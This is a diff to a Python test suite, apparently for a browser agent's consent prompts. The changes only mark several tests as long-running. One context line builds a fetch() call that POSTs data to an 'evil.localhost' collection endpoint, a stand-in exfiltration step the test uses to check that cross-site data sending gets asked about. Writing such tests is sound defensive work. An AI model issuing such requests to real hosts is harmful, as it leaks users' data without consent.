@@ -114,6 +114,7 @@ WAYS = {
 
 @pytest.mark.parametrize("way", WAYS)
 @pytest.mark.parametrize("answer", [False, True])
+@pytest.mark.long
 async def test_a_change_leaves_only_after_a_yes(env: BrowserEnv, pages: PageServer, way: str, answer: bool) -> None:
     worker = pages.serve_data("w.js", f"{POST}".encode(), "text/javascript")
     shared = pages.serve_data("s.js", f"onconnect = () => {POST}".encode(), "text/javascript")
@@ -160,6 +161,7 @@ async def test_expected_changes_need_no_question(env: BrowserEnv, pages: PageSer
     assert (person.asked, len(changed(pages))) == ([], 1)
 
 
+@pytest.mark.long
 async def test_a_risky_operation_is_asked_about_under_a_harmless_name(env: BrowserEnv, pages: PageServer) -> None:
     person = Person(False)
     for script in (
@@ -187,6 +189,7 @@ async def test_an_approved_step_is_not_asked_about_twice(env: BrowserEnv, pages:
     assert (len(person.asked), len(changed(pages))) == (1, 1)
 
 
+@pytest.mark.long
 async def test_data_for_another_site_is_asked_about_whatever_the_name(env: BrowserEnv, pages: PageServer) -> None:
     person = Person(False)
     script = f"fetch('{pages.url('/collected', 'evil.localhost')}', {{method: 'POST', mode: 'no-cors', body: 'x'}})"
@@ -410,6 +413,7 @@ async def test_which_sites_an_instruction_names(instruction: str, is_named: bool
         assert ((await requests(request)) is None) is (is_named and host == "shop.com")
 
 
+@pytest.mark.long
 async def test_another_run_of_an_agent_begins_without_the_answers_of_the_first(
     env: BrowserEnv, pages: PageServer
 ) -> None:
